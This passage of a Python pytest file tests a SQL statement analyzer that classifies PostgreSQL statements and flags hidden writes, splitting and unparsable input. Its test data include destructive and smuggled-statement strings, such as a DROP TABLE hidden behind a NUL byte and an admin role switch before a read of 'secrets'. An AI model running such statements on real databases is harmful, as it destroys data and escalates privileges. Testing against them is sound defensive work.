        qualified, _, access = rest.rpartition(":")
        schema, _, name = qualified.rpartition(".")
        refs.add(
            ObjectRef(
                kind=cast(ObjectKind, kind or "relation"),
                schema=schema or None,
                name=name,
                access=cast(Access, access),
            )
        )
    return refs


def _one(case: C) -> StatementFacts:
    analysis = analyze(case.sql, search_path=case.search_path)
    assert not analysis.unparsable, analysis.error
    assert len(analysis.statements) == 1
    return analysis.statements[0]


def test_corpus_is_large_and_ids_unique() -> None:
    assert len(CASES) >= 200
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_corpus(case: C) -> None:
    facts = _one(case)
    assert facts.kinds == frozenset(case.kinds.split())
    assert facts.kinds <= KINDS
    assert facts.hidden_write is case.hidden
    assert facts.unbounded_write is case.unbounded
    assert facts.read_only_breaking is case.rob
    if case.command is not None:
        assert facts.command == case.command
    assert _refs(case.objs) <= set(facts.objects), facts.objects
    reported = {o.name for o in facts.objects if o.kind == "relation"}
    assert not set(case.no_objs.split()) & reported
    assert set(case.fns.split()) <= set(facts.functions)
    if case.settings is not None:
        assert facts.settings == case.settings
    if case.unknown is not None:
        assert facts.calls_unknown_functions is case.unknown
    assert facts.prepared_name == case.prepared
    assert facts.cursor_name == case.cursor


@pytest.mark.parametrize("case", CASES[::7], ids=[c.id for c in CASES[::7]])
def test_cache_agrees_with_a_cold_analysis(case: C) -> None:
    cached = analyze(case.sql, search_path=case.search_path)
    assert analyze(case.sql, search_path=case.search_path) == cached
    assert analyze_uncached(case.sql, search_path=case.search_path) == cached


# -- several statements in one string ---------------------------------------------------------

# fmt: off
MULTI = [
    ("select-then-delete", "SELECT 1; DELETE FROM t",
     [("read", "SELECT 1"), ("write", "DELETE FROM t")]),
    ("comment-between", "SELECT 1; /* x */ -- y\n SELECT 2;",
     [("read", "SELECT 1"), ("read", "SELECT 2")]),
    ("set-then-select", "SET ROLE admin; SELECT * FROM secrets",
     [("session", "SET ROLE admin"), ("read", None)]),
    ("begin-write-commit", "BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT",
     [("transaction", "BEGIN"), ("write", None), ("transaction", "COMMIT")]),
    ("string-with-semicolons", "SELECT ';DROP TABLE x;'; SELECT 2",
     [("read", "SELECT ';DROP TABLE x;'"), ("read", "SELECT 2")]),
    ("dollar-with-semicolons", "DO $$ BEGIN; END $$; SELECT 1",
     [("procedural", "DO $$ BEGIN; END $$"), ("read", "SELECT 1")]),
    ("empty-statements", ";;SELECT 1;;", [("read", "SELECT 1")]),
    ("unicode-offsets", "SELECT 'é' AS \"ü\"; DELETE FROM t",
     [("read", "SELECT 'é' AS \"ü\""), ("write", "DELETE FROM t")]),
]
# fmt: on


@pytest.mark.parametrize(
    ("sql", "expected"), [(s, e) for _, s, e in MULTI], ids=[i for i, _, _ in MULTI]
)
def test_multi_statement(sql: str, expected: list[tuple[str, str | None]]) -> None:
    analysis = analyze(sql)
    assert not analysis.unparsable
    assert [" ".join(sorted(s.kinds)) for s in analysis.statements] == [k for k, _ in expected]
    for facts, (_, text) in zip(analysis.statements, expected, strict=True):
        if text is not None:
            assert facts.text == text


def test_multi_statement_union_of_kinds() -> None:
    analysis = analyze("SELECT 1; DROP TABLE x; GRANT SELECT ON t TO bob")
    assert analysis.kinds == {"read", "ddl", "privilege"}


# -- unparsable ----------------------------------------------------------------------------------

UNPARSABLE = [
    ("typo", "SELEC 1"),
    ("unterminated-quote", "SELECT 'abc"),
    ("unterminated-dollar", "SELECT $$abc"),
    ("unterminated-tag", "SELECT $x$ abc $y$"),
    ("unterminated-comment", "SELECT 1 /* open"),
    ("unterminated-ident", 'SELECT "abc'),
    ("bad-second-statement", "SELECT 1; DELET FROM t"),
    ("keyword-garbage", "DROP TABLE"),
    ("nul-hidden-statement", "SELECT 1\x00; DROP TABLE x"),
    ("only-garbage", "%%%"),
    ("unbalanced-paren", "SELECT (1"),
    ("trailing-garbage", "SELECT 1 FROM t WHERE"),
]


@pytest.mark.parametrize("sql", [s for _, s in UNPARSABLE], ids=[i for i, _ in UNPARSABLE])
def test_unparsable(sql: str) -> None:
    analysis = analyze(sql)
    assert analysis == Analysis(
        statements=(), unparsable=True, error=analysis.error, fingerprint=None
    )
    assert analysis.error


@pytest.mark.parametrize("sql", ["", "   ", "-- just a comment", "/* nothing */", ";"])
def test_empty_strings_have_no_statements(sql: str) -> None:
    analysis = analyze(sql)
    assert not analysis.unparsable
    assert analysis.statements == ()


# -- the rest of the contract ---------------------------------------------------------------------


def test_text_is_sliced_per_statement_and_stripped() -> None:
    analysis = analyze("  /* lead */ SELECT 1 ;\n\n  SELECT 2  ")
    assert [s.text for s in analysis.statements] == ["SELECT 1", "SELECT 2"]


def test_fingerprint_is_set() -> None:
    one, two = analyze("SELECT a FROM t WHERE id = 1"), analyze("SELECT a FROM t WHERE id = 2")
    assert one.fingerprint and one.fingerprint == two.fingerprint


def test_qualified_expands_unqualified_names_along_the_search_path() -> None:
    analysis = analyze("SELECT * FROM t JOIN s.u ON true", search_path=("app", "public"))
    rels = {(o.schema, o.name) for o in analysis.qualified() if o.kind == "relation"}
    assert rels == {("pg_catalog", "t"), ("app", "t"), ("public", "t"), ("s", "u")}
    explicit = analysis.qualified(("public", "pg_catalog"))
    assert [(o.schema, o.name) for o in explicit if o.name == "t"] == [
        ("public", "t"),
        ("pg_catalog", "t"),
    ]


def test_statement_types_are_all_classified() -> None:
    from pglast import ast

    from wardgate.sql._kinds import STATEMENT_TYPES

    raw_only = {"RawStmt", "SetOperationStmt", "PLAssignStmt", "ReturnStmt", "ReplicaIdentityStmt"}
    pglast_types = {name for name in dir(ast) if name.endswith("Stmt") and name not in raw_only}
    assert pglast_types == {cls.__name__ for cls in STATEMENT_TYPES}


def test_public_surface() -> None:
    import wardgate.sql as sql

    assert set(sql.__all__) == {
        "KINDS", "Access", "Analysis", "Kind", "ObjectKind", "ObjectRef", "OutputColumn",
        "Source", "StatementFacts", "analyze",
        "analyze_shaped",
        "prepared_body",
    }  # fmt: skip
